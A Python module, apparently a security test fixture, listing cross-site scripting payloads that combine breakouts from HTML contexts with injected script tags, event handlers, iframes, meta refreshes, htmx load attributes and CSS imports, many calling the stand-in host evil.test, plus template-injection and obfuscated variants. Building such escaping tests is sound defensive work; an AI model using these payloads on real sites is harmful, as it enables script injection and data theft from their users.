"""Texts that would act if a page took them for markup (B-11).

Each tries to run code or to ask evil.test; each way in is tried after each way out of the place
where a text may stand: an element, an attribute, a textarea, a title, a comment, a script.
"""

HOST = "evil.test"

WAYS_OUT = ("", '">', "'>", "</textarea>", "</title>", "-->", "</script>", "`}]}")

WAYS_IN = (
    f"<script>fetch('//{HOST}/')</script>",
    f"<script src=//{HOST}/x.js></script>",
    f"<img src=//{HOST}/i onerror=alert(1)>",
    f"<svg onload=alert(1)><use href='//{HOST}/s.svg#x'/></svg>",
    f"<iframe src=//{HOST}/></iframe>",
    f"<object data=//{HOST}/o></object>",
    f"<embed src=//{HOST}/e>",
    f"<link rel=stylesheet href=//{HOST}/c.css>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/m'>",
    f"<base href=//{HOST}/>",
    f"<form action=//{HOST}/f><button autofocus>x</button></form>",
    f"<div hx-get=//{HOST}/h hx-trigger=load></div>",
    f"<div data-hx-get=//{HOST}/d data-hx-trigger=load></div>",
    "<div hx-get=/calls/ hx-trigger=load hx-target=body></div>",
    "<div hx-on::load=alert(1)></div>",
    "<div hx-on:click=alert(1) data-hx-on:mouseover=alert(1)></div>",
    f"<div hx-boost=true><a href=//{HOST}/b data-key=c>x</a></div>",
    "<button data-key=c autofocus onfocus=alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)></details>",
    f"<video src=//{HOST}/v onloadstart=alert(1)></video>",
    f"<style>@import '//{HOST}/a.css';*{{background:url(//{HOST}/b)}}</style>",
    "<template data-notice=lost><b onclick=alert(1)></b></template>",
)

ALONE = (
    "javascript:alert(1)",
    "{{ 7|add:7 }}{% debug %}",
    "${alert(1)}",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) '",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u202egnp.exe\u202c <b>bold</b>",
    "<<script>alert(1)//<</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
)

PAYLOADS = [out + way for way in WAYS_IN for out in WAYS_OUT] + list(ALONE)
